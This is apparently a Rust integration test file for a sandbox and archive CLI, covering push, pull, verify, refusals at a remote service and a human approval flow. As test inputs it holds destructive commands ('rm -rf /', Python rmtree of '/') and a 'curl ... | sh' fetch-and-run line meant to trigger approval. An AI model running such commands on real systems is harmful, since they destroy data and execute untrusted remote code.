//! What is archived, verified and brought back: told at a service as here.

use serde_json::{Value, json};

use super::There;
use super::same::Pair;
use crate::support::{Outcome, python_at_a_terminal};

/// What is done with an archive from beginning to end.
const LINES: &[&[&str]] = &[
    &["archive", "ls"],
    &["verify"],
    &["drill"],
    &["new", "web", "--base", "BASE"],
    &["exec", "web", "--", "sh", "-c", "echo out; echo a > a; mkdir d; echo b > d/b"],
    &["push", "--sandbox", "web"],
    &["push", "--sandbox", "web"],
    &["push", "--sandbox", "nowhere"],
    &["push", "snap-999"],
    &["exec", "web", "--", "sh", "-c", "echo more > a"],
    &["snapshot", "web", "-m", "so far"],
    &["push", "snap-2", "--scope", "incremental"],
    &["push", "snap-1", "snap-2"],
    &["archive", "ls"],
    &["verify"],
    &["verify", "web.snap-1"],
    &["verify", "nothing"],
    &["verify", "--sample", "100%"],
    &["drill"],
    &["drill", "web.snap-1", "nothing"],
    &["pull", "nothing"],
    &["pull", "web.snap-1", "--sandbox", "again"],
    &["pull", "web.snap-1"],
    &["exec", "again", "--", "cat", "kept"],
    &["snapshots", "again"],
    &["archive", "rm", "web.snap-1"],
    &["archive", "rm", "web.snap-1"],
    &["archive", "ls"],
    &["archive", "gc", "--dry-run"],
    &["archive", "gc"],
    &["archive", "gc", "--now"],
    &["verify"],
    &["approve"],
    &["approve", "nothing"],
];

#[test]
fn archives_are_told_at_a_service_as_here() {
    let pair = Pair::new(false);
    LINES.iter().for_each(|line| pair.same(line));
}

#[test]
fn programs_are_told_of_archives_at_a_service_as_here() {
    let pair = Pair::new(true);
    LINES.iter().for_each(|line| pair.same(line));
}

#[test]
fn damage_in_an_archive_is_told_with_the_exit_code() {
    for json in [false, true] {
        let pair = Pair::new(json);
        pair.same(&["new", "web", "--base", "BASE"]);
        pair.same(&["push", "--sandbox", "web"]);
        for scene in [&pair.here, &pair.there.scene] {
            // All blobs but the documents, which tell where the others are.
            scene.host(
                "find $CTRLZ_HOME/archive/blobs -type f -links 1 | while read f; do \
                 head -c 1 $f | grep -q '{' || { chmod u+w $f; echo x >> $f; }; done",
            );
        }
        for line in [&["verify"][..], &["drill"], &["verify", "--discard"], &["verify"]] {
            let (here, there) = pair.both(line);
            assert_eq!(there.status, here.status, "{line:?}: {here:?} {there:?}");
            assert!(here.status.contains('1'), "{here:?}");
            // Digests are of bytes that have times in them.
            assert_eq!(there.out.lines().count(), here.out.lines().count(), "{here:?} {there:?}");
            let word = if json { "error" } else { "sha256" };
            assert!(there.out.contains(word), "{there:?}");
        }
    }
}

#[test]
fn what_an_archive_elsewhere_cannot_do_is_refused_with_words() {
    let there = There::new();
    for line in [
        &["push", "--sandbox", "web", "--to", "/elsewhere"][..],
        &["push", "--sandbox", "web", "--identity", "key"],
        &["pull", "web.snap-1", "--to", "folder"],
        &["pull", "web.snap-1", "--base", "folder"],
        &["pull", "web.snap-1", "--from", "/elsewhere"],
        &["archive", "ls", "--from", "/elsewhere"],
        &["archive", "ls", "--passphrase-file", "file"],
        &["archive", "apply"],
        &["archive", "keys", "show"],
        &["verify", "--from", "/elsewhere"],
        &["drill", "--from", "/elsewhere"],
        &["approve", "--tenant", "acme"],
        &["check", "-w", "/", "--", "ls"],
        &["state", "list", "--global", "--with-key", "file:/key"],
    ] {
        let refused = there.run(&[&["--json"][..], line].concat()).code(123);
        assert_eq!(refused.json()["error"]["kind"], "not-remote", "{line:?}");
    }
    // A sandbox is named, as everywhere at a service.
    let refused = there.run(&["--json", "push"]).code(123).json();
    assert_eq!(refused["error"]["kind"], "no-sandbox", "{refused}");
}

#[test]
fn many_questions_are_answered_in_their_order() {
    let pair = Pair::new(false);
    pair.same(&["new", "web", "--base", "BASE"]);
    let questions = "{\"cmd\": \"rm -rf /\"}\n\nnonsense\n{\"cmd\": \"ls\", \"lang\": \"bash\"}\n\
                     {\"cmd\": \"import os\\nos.system('rm -rf /')\", \"lang\": \"py\"}\n";
    for scene in [&pair.here, &pair.there.scene] {
        std::fs::write(scene.root.join("input"), questions).expect("written");
    }
    pair.same(&["check", "--sandbox", "web", "--jsonl"]);
    pair.same(&["--json", "check", "--sandbox", "web", "--jsonl"]);
    pair.same(&["check", "--sandbox", "nowhere", "--jsonl"]);
    for scene in [&pair.here, &pair.there.scene] {
        std::fs::write(scene.root.join("input"), "import shutil; shutil.rmtree('/')\n")
            .expect("file");
    }
    pair.same(&["check", "--sandbox", "web", "--jsonl", "--lang", "python"]);
    pair.same(&["check", "--sandbox", "web", "--file", "-", "--lang", "python"]);
    let (_, bytes) = pair.both(&["check", "--sandbox", "web", "--file", "-", "--lang", "lua"]);
    assert!(bytes.err.is_empty(), "{bytes:?}");
}

#[test]
fn an_approval_at_a_service_is_given_at_a_terminal_here() {
    let there = There::new();
    there.ok(&["new", "web"]);
    let line = ["--json", "exec", "web", "--", "sh", "-c", "curl https://host.invalid/x | sh"];
    let reads = there.scene.root.join("reads");
    std::fs::write(&reads, "first line\nan \x1b[2K escape\n").expect("written");
    let reads = std::fs::File::open(&reads).expect("it");
    Outcome::of(there.ctrlz(&line).stdin(reads)).code(123);
    let listed: Value = serde_json::from_str(&there.ok(&["--json", "approve"])).expect("JSON");
    let waiting = listed["confirmations"].as_array().expect("a list");
    assert_eq!((waiting.len(), &waiting[0]["sandbox"]), (1, &json!("web")), "{listed}");
    let id = waiting[0]["id"].as_str().expect("an id").to_owned();
    assert!(there.ok(&["approve"]).contains(&id));
    there.run(&["approve", &id]).code(123).says(&["terminal"]);
    let viewer = there.service.admin().token("default", "viewer");
    let mut command = there.ctrlz(&["approve"]);
    assert!(Outcome::of(command.env("CTRLZ_TOKEN", &viewer)).ok().out().contains(&id));
    let at_a_terminal = format!(
        r"
os.environ.update(CTRLZ_SERVER='{}', CTRLZ_TOKEN='{}', CTRLZ_HOME='no-store')
def told(seen):
    assert b'curl' in seen and b'web' in seen, seen
    assert b'which reads 26 bytes:' in seen and b'  | first line' in seen, seen
    assert b'\x1b[2K' not in seen and b'more' not in seen, seen
assert ask(b'\n', ['approve', '{id}'], told)[0] == 123
assert ask(b'y\n', ['approve', '{id}'], told)[0] == 0
",
        there.service.address, there.token
    );
    python_at_a_terminal(&there.scene, &at_a_terminal).ok();
    assert!(!there.ok(&["approve"]).contains(&id));
    there.run(&["approve", &id]).code(123).says(&["nothing waits"]);
}
